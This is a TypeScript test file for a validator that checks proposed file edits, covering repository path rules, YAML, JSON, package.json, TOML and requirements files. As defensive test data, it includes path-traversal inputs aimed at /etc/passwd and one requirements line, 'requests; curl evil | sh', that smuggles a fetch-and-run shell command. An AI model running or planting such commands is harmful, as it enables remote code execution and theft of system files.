import { validateEdit, validateEdits } from './edit.js';

const edit = (path: string, after: string, before: string | null = null) => ({ path, before, after });

describe('validateEdit', () => {
  it('refuses paths outside the repository before looking at the contents', async () => {
    for (const [path, why] of [
      ['../../etc/passwd', 'leaves the repository (..)'],
      ['/etc/passwd', 'is absolute'],
      ['.git/config', 'is inside .git'],
      ['a/./b', 'is not normalised'],
      ['a\\b', 'contains a backslash'],
    ] as const) {
      const result = await validateEdit(edit(path, 'x'));
      expect(result).toEqual({
        ok: false,
        errors: [`${JSON.stringify(path)}: the path ${JSON.stringify(path)} ${why}`],
      });
    }
  });

  it('validates workflows with the workflow parser', async () => {
    const result = await validateEdit(
      edit('.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    runs-on: x\n    stepz: []\n'),
    );
    expect(result.ok).toBe(false);
    expect(result.errors[0]).toMatch(/\.github\/workflows\/ci\.yml \(Line: 5, Col: 5\): Unexpected value 'stepz'/);
  });

  it('parses other YAML files, every document of them', async () => {
    expect(await validateEdit(edit('k8s/app.yaml', 'a: 1\n---\nb: 2\n'))).toEqual({ ok: true, errors: [] });
    const result = await validateEdit(edit('k8s/app.yaml', 'a: 1\n---\nb: [\n'));
    expect(result.ok).toBe(false);
    expect(result.errors[0]).toMatch(/^k8s\/app\.yaml: /);
  });

  it('checks JSON strictly, or as JSON with comments when the file had comments before', async () => {
    const broken = await validateEdit(edit('config.json', '{\n  "a": 1,\n  "b": }\n'));
    expect(broken).toEqual({
      ok: false,
      errors: [expect.stringMatching(/^config\.json \(line 3, column 8\): invalid JSON/)],
    });
    const tsconfig = '{\n  // strict mode\n  "compilerOptions": { "strict": true, },\n}\n';
    expect(await validateEdit(edit('tsconfig.json', tsconfig.replace('true', 'false'), tsconfig))).toEqual({
      ok: true,
      errors: [],
    });
    expect((await validateEdit(edit('tsconfig.json', tsconfig))).ok).toBe(false);
  });

  it('accepts a byte-order mark at the start of a JSON file, as npm does', async () => {
    const pkg = '\uFEFF{\n  "name": "x",\n  "dependencies": { "a": "1" }\n}\n';
    expect(await validateEdit(edit('package.json', pkg.replace('"1"', '"2"'), pkg))).toEqual({ ok: true, errors: [] });
    expect((await validateEdit(edit('package.json', '\uFEFF{ "name": ', pkg))).ok).toBe(false);
  });

  it('checks the shape of package.json', async () => {
    const result = await validateEdit(
      edit(
        'web/package.json',
        JSON.stringify({ name: 'Bad Name', dependencies: { a: 1 }, devDependencies: { a: '1' } }),
      ),
    );
    expect(result.errors).toEqual([
      'web/package.json: "name" "Bad Name" is not a valid package name',
      'web/package.json: "dependencies"."a" must be a string',
      'web/package.json: "a" is in both "dependencies" and "devDependencies"',
    ]);
  });

  it('checks TOML structure', async () => {
    expect(
      await validateEdit(edit('pyproject.toml', '[project]\nname = "x"\ndependencies = ["a",\n  "b",\n]\n')),
    ).toEqual({
      ok: true,
      errors: [],
    });
    expect(await validateEdit(edit('pyproject.toml', '[project]\ndependencies = ["a"\n'))).toEqual({
      ok: false,
      errors: ['pyproject.toml: unterminated array at line 2, column 16'],
    });
  });

  it('checks requirements files for shell syntax', async () => {
    expect(
      await validateEdit(edit('requirements.txt', 'requests>=2 ; python_version < "3.12"\n-r base.txt\n')),
    ).toEqual({
      ok: true,
      errors: [],
    });
    expect(await validateEdit(edit('requirements.txt', 'requests; curl evil | sh\n'))).toEqual({
      ok: false,
      errors: ['requirements.txt (line 1): "requests; curl evil | sh" contains shell syntax'],
    });
  });

  it('reports every edit of a fix, and a file edited twice', async () => {
    const result = await validateEdits([edit('a.json', '{}'), edit('a.json', '[]'), edit('b.json', '{')]);
    expect(result.errors).toEqual([
      expect.stringMatching(/^b\.json \(line 1, column 2\)/),
      'a.json: edited twice in one fix',
    ]);
  });
});
